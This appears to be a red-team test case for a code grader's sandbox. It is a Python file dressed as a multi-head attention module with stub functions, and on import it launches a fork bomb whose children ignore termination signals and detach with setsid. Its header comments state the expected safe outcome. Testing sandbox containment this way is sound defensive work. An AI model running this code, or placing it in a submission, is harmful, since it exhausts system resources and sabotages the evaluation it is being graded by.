# ATTACK: a fork bomb at import: the module forks as fast as it can, every child forks again and then sleeps forever in a new session (setsid) with SIGTERM/SIGHUP/SIGINT ignored; the import itself returns and the functions are stubs.
# HONEST: 0
# EXPECT: bounded by the sandbox's process limit (RLIMIT_NPROC per sandbox user), the grader stays responsive; every process the sandbox made is gone after grading (its PID namespace dies with it, or the user sweep kills them); score 0; grader exit status 0.
import os
import signal
import time


def _bomb():
    for _ in range(4000):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            try:
                os.setsid()
            except OSError:
                pass
            try:
                os.fork()
            except OSError:
                pass
            while True:
                time.sleep(60)


_bomb()


def _stub(*args, **kwargs):
    raise NotImplementedError


head_weight_shape = project = project_heads = split_heads = concat_heads = _stub
masked_softmax = attention_pool = _stub


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        raise NotImplementedError
